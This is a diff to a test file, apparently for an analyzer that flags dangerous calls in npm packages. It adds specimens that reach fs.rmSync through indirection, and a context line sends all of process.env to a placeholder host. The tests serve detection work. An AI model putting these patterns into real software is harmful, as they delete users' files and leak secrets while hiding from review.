@@ -114,6 +114,23 @@ const CASES: readonly {
     says: ['install fs.rmSync(c)', 'import fs.rmSync(a)', 'import fs.rmSync(b)'],
   },
   {
+    when: 'a plug-in registers itself with the file that loads it',
+    files: {
+      'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs' },
+      'index.mjs': `import './own.mjs'; export function register(job) { (register.all ??= []).push(job); } for (const job of register.all) job('a');`,
+      'own.mjs': `import fs from 'node:fs'; import { register } from './index.mjs'; register(name => fs.rmSync(name));`,
+    },
+    says: ['import fs.rmSync(a)'],
+  },
+  {
+    when: 'modules of Node are asked for members that data names',
+    files: {
+      'index.js': `const load = require, fs = load('fs'); for (const [act, ...given] of require('./acts.json')) fs[act](...given);`,
+      'acts.json': [['rmSync', 'a']],
+    },
+    says: ['import fs.rmSync(a)'],
+  },
+  {
     when: 'the environment is spread out beside what somebody passes',
     files: {
       'index.js': `exports.send = more => fetch('https://a.invalid/', { method: 'POST', body: JSON.stringify({ ...process.env, ...more }) });`,
